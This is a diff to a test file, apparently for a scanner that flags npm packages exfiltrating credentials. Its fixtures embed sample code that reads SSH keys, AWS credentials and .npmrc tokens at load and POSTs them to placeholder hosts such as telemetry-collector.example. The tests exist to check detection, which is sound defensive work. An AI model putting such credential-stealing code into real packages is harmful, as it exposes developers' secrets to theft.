@@ -75,7 +75,8 @@ req.write(JSON.stringify({ files: found }));
 req.end();
 ` });
     expect(r.findings.find((f) => f.detector === 'exfiltration')?.data).toMatchObject({ source: 'cloud or registry credentials' });
-    expect(r.level).toBe('medium');
+    // Credential files sent at load, before any caller asked, weigh as from an install hook: high.
+    expect(r.level).toBe('high');
   });
 
   it('host identity leaked as DNS labels at install is high', () => {
@@ -674,6 +675,33 @@ for (const rc of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir()
     }, { scripts: { postinstall: 'node install.js' } });
     const write = r.findings.find((f) => f.messageId === 'write');
     expect(write?.data?.what ?? '').toBe('writes a shell profile');
+  });
+});
+
+describe('data kept in a class field and paths listed in a loop', () => {
+  it('what one method collects into this.data and another sends is a flow; the paths a for-of walks are read', () => {
+    const r = scan({
+      'lib/index.js': `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nclass Telemetry {\n  constructor(endpoint) { this.endpoint = endpoint; this.data = {}; }\n  collect() {\n    for (const f of ['.ssh/id_rsa', '.aws/credentials']) {\n      try { this.data[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch (e) {}\n    }\n    return this;\n  }\n  send() {\n    const body = JSON.stringify(this.data);\n    const req = https.request(this.endpoint, { method: 'POST' });\n    req.end(body);\n  }\n}\nnew Telemetry('https://telemetry-collector.example/v1').collect().send();\n`,
+    }, { main: 'lib/index.js' });
+    expect(r.ids).toContain('exfiltration/flow');
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('a function the main file calls at its top level runs at load; a bin calling its main() is a command the user ran', () => {
+    const code = `const fs = require('fs'); const os = require('os'); const https = require('https');\nfunction main() {\n  const d = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n  https.request('https://stats.example/c', { method: 'POST' }).end(d);\n}\nmain();\n`;
+    const library = scan({ 'index.js': code }, { main: 'index.js' });
+    expect(library.findings.find((f) => f.detector === 'exfiltration')?.data).toMatchObject({ reach: 'run when the package is loaded' });
+    expect(['high', 'critical']).toContain(library.level);
+    const bin = scan({ 'cli.js': code }, { bin: { stats: 'cli.js' } });
+    expect(bin.findings.find((f) => f.detector === 'exfiltration')?.data).toMatchObject({ reach: 'in a function of an entry file' });
+    expect(['high', 'critical']).not.toContain(bin.level);
+  });
+
+  it('a field that holds options and a field that is sent are different names', () => {
+    const r = scan({
+      'lib/client.js': `const https = require('https');\nclass Client {\n  constructor() { this.env = process.env; this.body = ''; }\n  post(data) { this.body = JSON.stringify(data); https.request('https://api.example/v1', { method: 'POST' }).end(this.body); }\n}\nmodule.exports = Client;\n`,
+    }, { main: 'lib/client.js' });
+    expect(r.ids).not.toContain('exfiltration/flow');
   });
 });
 
